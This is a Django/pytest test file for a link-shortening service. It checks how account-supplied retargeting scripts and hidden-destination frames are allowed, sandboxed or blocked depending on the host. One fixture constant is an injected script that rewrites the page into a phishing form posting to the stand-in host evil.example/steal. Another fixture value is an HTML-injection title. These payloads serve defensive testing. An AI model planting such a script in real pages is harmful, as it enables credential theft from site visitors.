"""An account's own content on a link is unrestricted on its verified domain, in a sandbox on the domain
that accounts share, and not shown at all on the dashboard's hosts."""

from __future__ import annotations

from typing import Any

import pytest
from django.test import Client
from pytest_django import Settings

from accounts.models import Account, Purpose, User
from accounts.services import account_brand_set
from links.public_urls import get_system_domain, update_system_domain
from links.services.domains import domain_create
from links.services.scripts_and_lists import script_write
from tests.support import verify_host
from tests.support.links import HOST, NOON, Answer, Browser, count_metrics, create_link, refresh_caches

pytestmark = pytest.mark.django_db
BASE, SHARED, OWN = "stats.saas.test", "go.saas.test", "go.shop.test"
BRAND, API = "my.agency.test", "api.saas.test"
SCRIPT = "<script>document.body.innerHTML='<form action=https://evil.example/steal>'</script>"


@pytest.fixture(autouse=True)
def hosts(account: Account, settings: Settings, fresh_links: None) -> None:
    settings.BASE_URL, settings.LINK_DOMAIN, settings.CLICKMETER_HOSTS = f"https://{BASE}", SHARED, (API,)
    account_brand_set(account=account, host=BRAND, name="Agency")
    verify_host(account, BRAND, Purpose.BRAND)
    domain = domain_create(account=account, name=OWN)
    verify_host(account, OWN, Purpose.LINKS)
    script = script_write(account=account, name="pixel", text=SCRIPT)
    for place, prefix in ((domain, "own"), (get_system_domain(), "shared")):
        create_link(account, f"{prefix}-script", domain=place, scripts=[script])
        framed: dict[str, Any] = {"hide_url": True, "hide_url_title": "<b>Log in</b>", "url": "https://x.test/?q=%22"}
        create_link(account, f"{prefix}-frame", domain=place, **framed)


def policy(answer: Answer) -> str:
    return answer.headers["content-security-policy"]


def test_on_a_verified_domain_scripts_and_frames_are_unrestricted() -> None:
    answer = Browser().open("/own-script", host=OWN)
    nonce = policy(answer).split("'nonce-")[1].split("'")[0]
    assert answer.status == 200 and f'<script nonce="{nonce}">document.body'.encode() in answer.body
    assert "sandbox" not in policy(answer) and "form-action" not in policy(answer)
    framed = Browser().open("/own-frame", host=OWN)
    assert framed.status == 200 and b'src="https://x.test/?q=%22"' in framed.body and b"sandbox=" not in framed.body
    assert b"<b>Log" not in framed.body and b"&lt;b&gt;Log in" in framed.body


def test_on_the_shared_domain_they_run_in_a_sandbox_without_forms(account: Account) -> None:
    answer = Browser().open("/shared-script", host=SHARED, at=NOON)
    sandbox = policy(answer).split(";")[0].split()
    assert answer.status == 200 and sandbox == ["sandbox", "allow-scripts", "allow-top-navigation"]
    assert "form-action 'none'" in policy(answer)
    framed = Browser().open("/shared-frame", host=SHARED)
    assert b'sandbox="allow-scripts allow-same-origin"' in framed.body and "form-action 'none'" in policy(framed)
    assert count_metrics(account, "clicks") == 1


@pytest.mark.parametrize("host", [BASE, BRAND, API, HOST, "unknown.test", f"apiv2.{BASE}"])
@pytest.mark.parametrize("alias", ["shared-script", "shared-frame"])
def test_on_the_dashboards_hosts_a_link_only_redirects(host: str, alias: str) -> None:
    answer = Browser().open(f"/l/{alias}", host=host)
    assert answer.status == 301 and answer.location.startswith("https://") and answer.body == b""


@pytest.mark.parametrize("host", [BASE, BRAND, API])
@pytest.mark.parametrize("alias", ["own-script", "own-frame"])
def test_a_link_of_a_verified_domain_does_not_exist_on_other_hosts(host: str, alias: str) -> None:
    assert Browser().open(f"/l/{alias}", host=host).status == 404


def test_without_a_shared_link_domain_no_content_of_accounts_is_shown(settings: Settings) -> None:
    settings.LINK_DOMAIN = ""
    get_system_domain()
    refresh_caches()
    assert Browser().open("/l/shared-script", host=BASE).status == 301
    assert Browser().open("/l/shared-frame", host=BASE).status == 301


def test_a_hidden_destination_can_be_obfuscated(account: Account) -> None:
    create_link(account, "coded", hide_url=True, encode_url=True)
    assert b"shop.test" not in Browser().open("/coded", host=SHARED).body


def test_the_editor_says_what_each_domain_allows(alice: User, client: Client, settings: Settings) -> None:
    client.force_login(alice)
    page = client.get("/links/new").content.decode()
    assert f"On {OWN}, retargeting scripts and hidden destinations work without restrictions." in page
    assert f"On {SHARED}, which all accounts share, retargeting scripts run without cookies" in page
    settings.LINK_DOMAIN = ""
    update_system_domain()
    page = client.get("/links/new").content.decode()
    assert f"On {BASE}, a link only redirects" in page
